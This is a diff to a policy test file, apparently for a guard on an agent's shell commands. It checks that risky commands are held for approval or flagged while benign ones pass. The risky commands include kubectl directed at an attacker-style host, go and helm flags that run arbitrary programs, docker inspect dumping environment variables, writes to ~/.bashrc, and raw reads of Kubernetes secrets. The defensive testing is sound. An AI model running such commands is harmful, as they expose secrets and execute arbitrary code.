@@ -848,10 +848,16 @@ test_reads_that_run_leak_or_bypass_path_rules_are_held_or_denied if {
 		"git cat-file --filters HEAD:x", "git grep --textconv x", "git blame --textconv f",
 		"kubectl get pods -s https://evil.example", "kubectl get pods --server=https://evil.example",
 		"helm template . --post-renderer ./x.sh", "go env -w GOFLAGS=-toolexec=/tmp/x",
+		"go list -toolexec 'sh -c id' ./...", "go list -exec=/tmp/x ./...", "ag --pager id x",
+		"docker inspect web", "docker inspect --format '{{.Config.Env}}' web", "docker inspect -f '{{json .}}' web",
 	] {
 		d := decide(exec_call(cmd, "production"))
 		d.effect == "require_approval"
 		fired(d, "tool.mutation")
+	}
+	fired(decide(exec_call("tree --output ~/.bashrc .", "development")), "fs.persistence")
+	every cmd in ["go list -f '{{.Dir}}' ./...", "docker inspect -f '{{.State.Status}}' web", "docker inspect --format '{{json .State.Health}}' web", "ag TODO src"] {
+		decide(exec_call(cmd, "production")).effect == "allow"
 	}
 	every cmd in [
 		"kubectl get --raw /api/v1/namespaces/default/secrets", "kubectl get --raw=/api/v1/secrets",
